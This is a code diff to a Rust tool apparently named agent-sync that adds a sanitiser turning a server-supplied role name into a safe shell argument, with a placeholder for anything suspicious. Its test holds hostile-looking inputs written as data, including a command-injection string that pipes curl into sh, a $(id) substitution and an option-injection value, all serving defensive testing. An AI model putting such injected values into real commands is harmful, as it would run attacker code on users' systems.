@@ -276,14 +276,41 @@ fn lacking(missing: &[String]) -> String {
 fn may_be_granted(role: &str, reads_only: bool) -> String {
     let option = if reads_only { "--monitor" } else { "--role" };
     format!(
-        "Run `agent-sync install {option} {role}` as the owner of the tables, or the statements \
-        that `agent-sync doctor` lists as this role."
+        "Run `agent-sync install {option} {}` as the owner of the tables, or the statements that \
+        `agent-sync doctor` lists as this role.",
+        argument(role)
     )
+}
+
+/// The role, as the server quotes it, as an argument of a command; a placeholder in place of a name
+/// that a shell could run: a false server gives any (S10).
+pub fn argument(role: &str) -> &str {
+    let name = role.trim_matches('"');
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
+    if name.starts_with('-') || name.is_empty() || !name.chars().all(is_plain) {
+        return "NAME";
+    }
+    name
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn s10_a_role_that_a_shell_could_run_is_no_part_of_a_command() {
+        for (role, expected) in [
+            ("app", "app"),
+            ("\"agent-sync\"", "agent-sync"),
+            ("\"my role\"", "NAME"),
+            ("app; curl x|sh #", "NAME"),
+            ("\"x$(id)\"", "NAME"),
+            ("--config=x", "NAME"),
+            ("", "NAME"),
+        ] {
+            assert_eq!(argument(role), expected, "{role}");
+        }
+    }
 
     #[test]
     fn few_missing_privileges_are_named_and_many_are_counted() {
